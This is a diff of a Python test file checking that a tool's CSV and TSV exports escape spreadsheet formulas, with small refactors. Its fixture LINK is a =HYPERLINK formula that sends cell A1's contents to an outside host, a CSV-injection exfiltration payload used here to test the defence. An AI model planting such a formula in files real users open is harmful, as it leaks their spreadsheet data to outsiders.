@@ -4,9 +4,9 @@ from pathlib import Path
 
 import pandas as pd
 import pytest
-from mtl_nas.cli.formulas import without_formulas
 
 from mtl_nas.cli import main
+from mtl_nas.exports.formulas import without_formulas
 
 FILES = Path(__file__).parents[1] / "fixtures" / "0.1.0"
 LINK = '=HYPERLINK("http://example.com?"&A1, "open")'
@@ -31,9 +31,10 @@ def test_names_of_columns_are_texts_too() -> None:
     assert (list(table), count) == (["'=1+1", "b"], 1)
 
 
-@pytest.mark.parametrize(
-    ("suffix", "verbatim"), [(".csv", False), (".tsv", False), (".csv", True), (".parquet", False)]
-)
+CASES = [(".csv", False), (".tsv", False), (".csv", True), (".parquet", False)]
+
+
+@pytest.mark.parametrize(("suffix", "verbatim"), CASES)
 def test_predict_says_what_it_changed(tmp_path, monkeypatch, capsys, suffix, verbatim) -> None:
 
     rows, out = tmp_path / "rows.csv", tmp_path / f"scores{suffix}"
@@ -42,7 +43,6 @@ def test_predict_says_what_it_changed(tmp_path, monkeypatch, capsys, suffix, ver
     monkeypatch.setattr("sys.argv", list(map(str, words)))
     with pytest.raises(SystemExit, match="0"):
         main()
-    assert mn.load_model(FILES / "model")
     table = pd.read_parquet(out) if suffix == ".parquet" else pd.read_csv(out, sep="\t" if suffix == ".tsv" else ",")
     escaped = suffix != ".parquet" and not verbatim
     assert table["who"].tolist() == ["'" * escaped + LINK, "ann", "-5"]
